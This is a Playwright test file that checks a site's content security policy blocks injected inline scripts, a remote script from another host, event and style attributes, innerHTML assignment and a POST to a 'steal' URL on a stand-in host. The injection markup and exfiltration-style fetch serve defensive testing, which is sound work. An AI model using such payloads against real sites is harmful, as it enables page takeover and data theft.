import type { Page } from '@playwright/test';
import { expect, test } from '../support/fixtures.ts';

/** Notes each breach of the content security policy by its directive, from the first moment of a page. */
async function watchBreaches(page: Page): Promise<string[]> {
	const breaches: string[] = [];
	await page.exposeFunction('noteBreach', (directive: string) => breaches.push(directive));
	await page.addInitScript(() => {
		document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => {
			const note: unknown = Reflect.get(window, 'noteBreach');
			if (typeof note === 'function') note(effectiveDirective);
		});
	});
	return breaches;
}

// That no page breaks its own policy is seen by the guard of every test, and with everything awake by access/every-page.
test.describe('what somebody manages to put into a page does not run', () => {
	test.beforeEach(({ guard }) => {
		guard.allowLog(/Content Security Policy/, /Refused to connect|violates the document/, /TrustedHTML/);
		// The browser names the request, but stops it before it leaves.
		guard.allowOrigin('https://other.example');
	});

	for (const [what, markup, directive] of [
		['a script in the page', '<script>document.title = "taken over"</script>', 'script-src-elem'],
		['a script from another host', '<script src="https://other.example/take-over.js"></script>', 'script-src-elem'],
		['an event attribute', '<button onclick="document.title = \'taken over\'">Win</button>', 'script-src-attr'],
		['a style attribute', '<p style="position: fixed">Covers the page</p>', 'style-src-attr'],
	] as const) {
		test(what, async ({ page }) => {
			const breaches = await watchBreaches(page);
			await page.route('**/about', async (route) => {
				const answer = await route.fetch();
				await route.fulfill({ response: answer, body: (await answer.text()).replace('</main>', `${markup}</main>`) });
			});
			await page.goto('/about');
			if (markup.startsWith('<button')) await page.getByRole('button', { name: 'Win' }).click();
			await expect.poll(() => breaches).toEqual([directive]);
			await expect(page).not.toHaveTitle('taken over');
		});
	}

	test('a text that a script hands to the page as HTML', async ({ page }) => {
		const breaches = await watchBreaches(page);
		await page.goto('/about');
		const outcome = await page.evaluate(() => {
			try {
				document.body.innerHTML = '<p>taken over</p>';
				return 'shown';
			} catch (error) {
				return error instanceof TypeError ? 'refused' : 'failed otherwise';
			}
		});
		expect(outcome).toBe('refused');
		await expect.poll(() => breaches).toEqual(['require-trusted-types-for']);
	});

	test('a call to a host that is not on the list', async ({ page }) => {
		const breaches = await watchBreaches(page);
		await page.goto('/about');
		const call = page.evaluate(() => fetch('https://other.example/steal', { method: 'POST', body: 'text' }));
		await expect(call).rejects.toThrow('Failed to fetch');
		await expect.poll(() => breaches).toEqual(['connect-src']);
	});
});
